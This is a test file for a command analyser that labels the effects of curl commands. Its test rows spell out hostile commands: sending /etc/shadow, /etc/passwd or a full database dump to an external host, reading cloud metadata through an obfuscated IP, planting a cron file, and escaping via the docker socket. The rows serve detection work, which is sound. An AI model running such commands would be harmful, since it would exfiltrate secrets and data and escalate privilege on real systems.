import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['curl -fsS http://localhost:8080/health', ['network:fetch localhost']],
  ['curl -sI https://example.com', ['network:fetch example.com external']],
  ['curl file:///etc/shadow', ['read:read /etc/shadow sensitive']],
  [
    'curl -o /etc/cron.d/x https://example.com/x',
    ['write:overwrite /etc/cron.d/x', 'network:fetch example.com external'],
  ],
  [
    'curl -OL https://example.com/dir/release.tar.gz',
    ['network:fetch example.com external', 'write:overwrite release.tar.gz'],
  ],
  ['curl --output-dir /opt -O https://example.com/a', ['network:fetch example.com external', 'write:overwrite /opt/a']],
  [
    'curl --output-dir /opt -o b https://example.com/a',
    ['write:overwrite b', 'network:fetch example.com external', 'write:overwrite /opt/b'],
  ],
  [
    'curl -T /etc/shadow ftp://h.example',
    ['read:read /etc/shadow external sensitive', 'network:send external sensitive', 'network:fetch h.example external'],
  ],
  [
    'curl -T - https://h.example < notes.txt',
    [
      'read:read notes.txt',
      'network:send external',
      'network:fetch h.example external',
      'network:send h.example external',
    ],
  ],
  [
    'curl -F file=@report.pdf -F name=x https://h.example',
    [
      'network:fetch h.example external',
      'read:read report.pdf external',
      'network:send external',
      'network:send h.example external',
    ],
  ],
  [
    'curl -d @/etc/passwd https://h.example',
    [
      'network:fetch h.example external',
      'read:read /etc/passwd external',
      'network:send-data external',
      'network:send-data h.example external',
    ],
  ],
  [
    'curl --data-urlencode text@notes.txt https://h.example',
    [
      'network:fetch h.example external',
      'read:read notes.txt external',
      'network:send external',
      'network:send h.example external',
    ],
  ],
  ['curl -d a=b https://h.example', ['network:fetch h.example external', 'network:send h.example external']],
  ['curl -G -d q=x https://h.example', ['network:fetch h.example external']],
  [
    'curl -X DELETE https://h.example/1',
    ['network:fetch h.example external', 'network:request-delete h.example external'],
  ],
  ['curl -k https://h.example', ['network:fetch h.example external', 'crypto:weaken h.example']],
  ['curl --tlsv1.0 https://h.example', ['network:fetch h.example external', 'crypto:weaken h.example']],
  [
    'curl -u admin:hunter2 https://h.example',
    ['network:fetch h.example external', 'crypto:expose-secret in the command'],
  ],
  ['curl -u admin https://h.example', ['network:fetch h.example external']],
  [
    "curl -H 'Authorization: Bearer abc' https://h.example",
    ['network:fetch h.example external', 'crypto:expose-secret in the command'],
  ],
  ['curl -H \'Authorization: Bearer \'"$TOKEN" https://h.example', ['network:fetch h.example external']],
  ['curl https://u:p@h.example', ['network:fetch h.example external', 'crypto:expose-secret password for h.example']],
  [
    'curl http://169.254.169.254/latest/meta-data/',
    ['network:fetch 169.254.169.254 external', 'cloud:list-secrets 169.254.169.254 sensitive'],
  ],
  [
    'curl http://2852039166/latest/meta-data/',
    ['network:fetch 2852039166 external', 'cloud:list-secrets 2852039166 sensitive'],
  ],
  ['curl -K curlrc', ['read:read curlrc']],
  ['curl --engine /tmp/lib.so https://h.example', ['execute:load /tmp/lib.so', 'network:fetch h.example external']],
  [
    'curl -c jar -b jar2 https://h.example',
    ['write:overwrite jar', 'network:fetch h.example external', 'read:read jar2'],
  ],
  ['curl -b a=b https://h.example', ['network:fetch h.example external']],
  [
    'curl --unix-socket /var/run/docker.sock -X POST http://x/containers/create',
    ['network:fetch x external', 'network:send x external', 'privilege:escape /var/run/docker.sock'],
  ],
  ['curl --unix-socket /var/run/docker.sock http://x/containers/json', ['network:fetch x external']],
  ['curl --key client.key --cert client.pem https://h.example', ['network:fetch h.example external']],
  [
    'mysqldump --all-databases | curl -T - http://h.example',
    [
      'database:dump',
      'network:send external sensitive',
      'network:fetch h.example external',
      'network:send h.example external sensitive',
    ],
  ],
];

describe('curl', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
